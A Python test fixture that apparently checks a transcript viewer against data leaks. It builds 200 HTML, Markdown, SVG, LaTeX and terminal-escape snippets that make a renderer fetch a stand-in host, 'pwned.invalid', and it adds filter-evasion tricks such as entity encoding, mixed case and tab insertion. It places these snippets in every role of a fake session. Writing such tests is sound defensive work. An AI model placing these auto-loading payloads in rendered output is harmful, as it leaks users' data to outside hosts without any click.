"""Builds by rule 200 texts that would request something from another host, each at a path of its own."""

import random
from datetime import timedelta
from itertools import cycle

from chorus.testing.builders import Session, thinking, tool_use
from tests.e2e.support.worlds import session

SEED = 2
COUNT = 200
SESSION = "bad00006-0000-4000-8000-000000000006"
END = "exfiltration end"
_TOGETHER = 25

_LOADING = (
    "<img src={}>",
    "<img srcset={}>",
    "<img alt=x loading=eager src={}>",
    "<picture><source srcset={}><img></picture>",
    "<video poster={}></video>",
    "<video src={} preload=auto></video>",
    "<audio src={} preload=auto></audio>",
    "<video preload=auto><source src={}></video>",
    "<input type=image src={}>",
    "<iframe src={}></iframe>",
    "<object data={}></object>",
    "<embed src={}>",
    "<script src={}></script>",
    "<link rel=stylesheet href={}>",
    "<link rel=prefetch href={}>",
    "<link rel=preload as=image href={}>",
    "<svg><image href={} width=9 height=9 /></svg>",
    "<svg><image xlink:href={} width=9 height=9 /></svg>",
    "<svg><filter id=f><feImage href={} /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<table background={}><tr><td>x</table>",
    "<p style='background:url({bare})'>x</p>",
    "<p style=\"list-style:url('{bare}');display:list-item\">x</p>",
    "<p style='border-image:url({bare})'>x</p>",
    "<p style='content:url({bare})'>x</p>",
    "<style>@import '{bare}';</style>",
    "<style>@import url({bare});</style>",
)
"""What a browser loads by itself from HTML."""
_PICTURES = (
    "![x]({bare})",
    "![x](<{bare}>)",
    '![x]({bare} "title")',
    "![x][{n}]\n\n[{n}]: {bare}",
    "![{n}][]\n\n[{n}]: <{bare}> 'title'",
    "[![x]({bare})](https://example.org/)",
    "| a |\n|---|\n| ![x]({bare}) |",
    "> - ![x]({bare})",
    "# ![x]({bare})",
    "**![x]({bare})**",
)
"""What a reader of Markdown loads."""
_OTHERS = (
    "$\\includegraphics{{{bare}}}$",
    "$$\\htmlStyle{{background:url({bare})}}{{x}}$$",
    "```mermaid\ngraph LR; A[\"<img src='{bare}'>\"]\n```",
    "```math\n\\href{{{bare}}}{{x}}\n```",
    "```svg\n<svg><image href='{bare}'/></svg>\n```",
    "[^{n}]\n\n[^{n}]: ![x]({bare})",
    "\x1b]1337;File=inline=1:{bare}\x07",
    "<link rel=dns-prefetch href={}>",
    "<a href={} ping={}>x</a>",
    "@import url({bare})",
)
"""What only some readers would load: other dialects, pictures of a terminal, hints to a browser."""


def _address(chance: random.Random, number: int) -> str:
    scheme = "".join(chance.choice((each, each.upper())) for each in "http")
    host = "".join(chance.choice((each, each.upper())) for each in "pwned.invalid")
    path = f"x{number}x{chance.choice(('', '?secret=1', '.png', '#x', '/a/../b'))}"
    return f"{scheme}:{chance.choice(('//', '//', '///', '/'))}{host}{chance.choice((':80', ''))}/{path}"


def _attribute(chance: random.Random, address: str, *, is_list: bool) -> str:
    """Returns the address as a quoted value, with characters that a browser removes; in a list, blanks would end it."""
    if chance.random() < 0.2 and not is_list:
        at = chance.randrange(len("http:"))
        address = f"{address[:at]}{chance.choice(('&Tab;', '&#10;', '&#13;'))}{address[at:]}"
    if chance.random() < 0.3:
        address = "".join(f"&#{ord(each)};" if chance.random() < 0.2 and each in ":/." else each for each in address)
    blank = chance.choice(("", "", " ", "&#9;"))
    return chance.choice(('"{}"', "'{}'")).format(f"{blank}{address}{blank}")


def _written(chance: random.Random, form: str, number: int) -> str:
    bare = _address(chance, number)
    text = (
        form.replace("{}", _attribute(chance, bare, is_list="srcset" in form))
        .replace("{bare}", bare)
        .replace("{n}", f"n{number}")
    )
    text = text.replace("{{", "{").replace("}}", "}")
    if text.startswith("<") and chance.random() < 0.5:
        name = text[1:].split(" ", 1)[0].split(">", 1)[0]
        text = text.replace(f"<{name}", f"<{''.join(chance.choice((each, each.upper())) for each in name)}", 1)
    return text


def _made() -> tuple[list[str], list[str], list[str]]:
    """Returns texts of HTML, of Markdown and of other kinds, which request `/x<number>x` with unique numbers."""
    chance = random.Random(SEED)
    kinds: tuple[list[str], list[str], list[str]] = ([], [], [])
    forms = tuple(map(cycle, (_LOADING, _PICTURES, _OTHERS)))
    for number in range(COUNT):
        kind = (0, 0, 0, 1, 1, 0, 0, 1, 0, 2)[number % 10]
        kinds[kind].append(_written(chance, next(forms[kind]), number))
    return kinds


HTML, MARKDOWN, OTHERS = _made()


def loading() -> Session:
    """Builds a session with all these texts as words of a person, the model and tools, and in names."""
    made = session(SESSION, ago=timedelta(minutes=33), branch=HTML[0])
    made.title(f"exfiltration {HTML[1]} {MARKDOWN[0]}")
    every = HTML + MARKDOWN + OTHERS
    for first in range(0, len(every), _TOGETHER):
        bad = "\n\n".join(every[first : first + _TOGETHER])
        call = f"toolu_asks{first}"
        made.user(bad)
        made.assistant(thinking(bad), bad, tool_use("Bash", {"command": bad, "description": bad}, id=call))
        made.tool_result(call, bad, is_error=first % 3 == 0)
    made.assistant(END, stop="end_turn")
    return made
